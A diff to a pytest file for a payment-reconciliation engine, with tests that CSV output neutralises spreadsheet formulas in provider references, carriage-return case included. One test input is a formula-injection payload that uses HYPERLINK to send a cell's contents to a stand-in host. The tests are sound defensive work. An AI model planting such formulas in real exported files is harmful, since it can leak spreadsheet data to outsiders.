@@ -14,7 +14,7 @@ HEADER = "financialTransactionId,externalId,amount,currency,status,date"
 
 
 @pytest.mark.parametrize("reference", ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)",
-                                       "\t=1+1", "\r=1+1"])
+                                       "\t=1+1"])
 def test_a_formula_in_a_provider_reference_is_written_as_text(reference):
     quoted = '"' + reference.replace('"', '""') + '"'
     statement = f"{HEADER}\nM1,{quoted},10,RWF,SUCCESSFUL,2026-05-01T10:00:00Z\n"
@@ -30,3 +30,10 @@ def test_negative_amounts_stay_numbers():
     rows = list(csv.DictReader(io.StringIO(reconcile_statement("mtn_momo", statement, ledger).breaks_csv())))
     assert rows and all(not row["ledger_amount"].startswith("'") for row in rows)
     assert any(row["ledger_amount"].startswith("-") or row["difference"].startswith("-") for row in rows)
+
+
+def test_a_cell_starting_with_a_carriage_return_is_written_as_text():
+    """(A statement line cannot carry a bare CR: the importer splits lines on it, so the cell rule itself.)"""
+    from chalicelib.recon.engine import _csv_text
+
+    assert _csv_text("\r=1+1") == "'\r=1+1" and _csv_text("po_1") == "po_1" and _csv_text(None) is None
